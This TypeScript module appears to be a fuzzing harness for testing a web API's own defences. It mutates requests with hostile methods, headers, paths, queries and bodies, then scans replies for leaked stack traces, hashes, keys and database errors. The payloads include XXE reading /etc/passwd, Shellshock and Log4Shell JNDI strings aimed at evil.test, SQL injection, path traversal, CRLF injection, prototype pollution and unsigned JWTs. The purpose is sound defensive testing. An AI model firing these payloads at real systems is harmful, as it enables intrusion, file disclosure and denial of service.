// What is done to a request beside its input: methods, kinds of body, headers, addresses, sizes.
import type { Chance } from './hostile.ts'

/** A request as it goes out. */
export type WireRequest = {
  readonly method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'OPTIONS' | 'HEAD'
  readonly url: string
  readonly headers: Readonly<Record<string, string>>
  readonly payload?: string | Buffer
}

const pick = <T>(chance: Chance, from: readonly T[]): T => from[Math.floor(chance() * from.length)] as T

const nested = (depth: number): string => `{"data":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`
const contentTypes = [
  '',
  'text/xml',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/json, text/html',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${'x'.repeat(300)}`,
  'application/octet-stream',
  '../../x',
]
const bodies: readonly (() => string)[] = [
  () => '['.repeat(50_000),
  () => nested(3000),
  () => nested(50_000),
  () => '{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"toString":1}',
  () => `{"data":"${'я'.repeat(400_000)}"}`,
  () => `{"id":${'9'.repeat(20_000)}}`,
  () => `{"id":1e${'9'.repeat(50)},"page":-0,"results":1E400}`,
  () => '\ufeff{"id":1}',
  () => '{"id":1,"id":2,"request_number":"R260000001","request_number":["R260000001"]}',
  () => '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  () => '{"data":"\\ud800","x":"\\u0000"}',
  () => `{${Array.from({ length: 20_000 }, (_, key) => `"k${key}":${key}`).join(',')}}`,
]
const headers: readonly Readonly<Record<string, string>>[] = [
  { 'x-http-method-override': 'DELETE', 'x-method-override': 'PUT' },
  { 'x-original-url': '/api/staff/people', 'x-rewrite-url': '/api/staff/people' },
  { host: 'evil.test', 'x-forwarded-host': 'evil.test', forwarded: 'for=1;host=evil.test;proto=gopher' },
  { 'x-forwarded-for': "' or 1=1 --, 127.0.0.1", 'x-real-ip': '127.0.0.1' },
  { authorization: 'Basic YWRtaW46YWRtaW4=' },
  { authorization: 'Bearer ' },
  { authorization: `Bearer ${'x'.repeat(7000)}` },
  { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.' },
  { cookie: `khyanalt-language=${'x'.repeat(6000)}; a; =; ;;; sign_on_0=%00` },
  { range: 'bytes=0-0,1-2,-5', 'if-none-match': `W/"${'x'.repeat(3000)}"`, 'if-modified-since': 'never' },
  { 'accept-encoding': 'gzip;q=nan, br;q=-1, identity;q=0, *;q=0', accept: '*/*;q=x' },
  { 'user-agent': '() { :;}; echo x', referer: 'javascript:alert(1)' },
  { 'user-agent': '%24%7Bjndi:ldap://evil.test/x%7D' },
  { 'content-encoding': 'gzip' },
  { expect: '100-continue', upgrade: 'h2c', connection: 'upgrade' },
  { 'x-request-id': '{"level":60}' },
]
const inPaths = [
  '%00',
  '..%2f..%2fetc%2fpasswd',
  '%c0%ae%c0%ae/',
  '%2e%2e/',
  '//',
  '%25%32%65',
  ';x=1',
  '%',
  '%ff',
  '.json',
  '%0d%0aset-cookie:x=1',
]
const inQueries = [
  'id=1&id=2&id[]=3&id[x]=4',
  '__proto__[admin]=1&constructor[prototype][admin]=1',
  'page=1&page=2&results=5&results=',
  `q=${'%d1%8f'.repeat(2000)}`,
  'a&&=&=b&%=%&%00=%00',
  `${Array.from({ length: 1000 }, (_, key) => `k${key}=${key}`).join('&')}`,
  "until=9999999999&signature=' or '1'='1",
]

/** The request with one thing changed that has nothing to do with its input; `strange` when it is another call now. */
export const onTheWire = (request: WireRequest, chance: Chance): { request: WireRequest; strange: boolean } => {
  const [path = '', query] = request.url.split('?', 2)
  switch (Math.floor(chance() * 6)) {
    case 0:
      return {
        request: { ...request, headers: { ...request.headers, 'content-type': pick(chance, contentTypes) } },
        strange: false,
      }
    case 1:
      return {
        request: { ...request, method: pick(chance, ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD']) },
        strange: true,
      }
    case 2:
      return { request: { ...request, headers: { ...request.headers, ...pick(chance, headers) } }, strange: false }
    case 3: {
      const at = 5 + Math.floor(chance() * (path.length - 4))
      const bent = path.slice(0, at) + pick(chance, inPaths) + path.slice(at)
      return { request: { ...request, url: query === undefined ? bent : `${bent}?${query}` }, strange: true }
    }
    case 4:
      return {
        request: { ...request, url: `${path}?${query ? `${query}&` : ''}${pick(chance, inQueries)}` },
        strange: false,
      }
    default:
      return {
        request: {
          ...request,
          method: 'POST',
          headers: { ...request.headers, 'content-type': 'application/json' },
          payload: pick(chance, bodies)(),
        },
        strange: true,
      }
  }
}

/** What no reply may hold: traces, places on the disk, columns of secrets, words of the database, another site's host. */
const leaks: readonly RegExp[] = [
  /\n\s+at .+:\d+:\d+|"stack"|node_modules|file:\/\/\//,
  /password_hash|token_hash|storage_key|\$argon2|BEGIN (RSA |EC )?PRIVATE KEY/,
  /syntax error at or near|invalid input syntax|relation "\w+"|duplicate key value|pg_catalog/,
  /root:x:0:0|"workspaces"/,
]

/** The leak in a reply, if there is one. */
export const findLeak = (payload: string, secrets: readonly string[]): string | null =>
  leaks.map(pattern => pattern.exec(payload)?.[0]).find(found => found !== undefined) ??
  secrets.find(secret => payload.includes(secret)) ??
  null
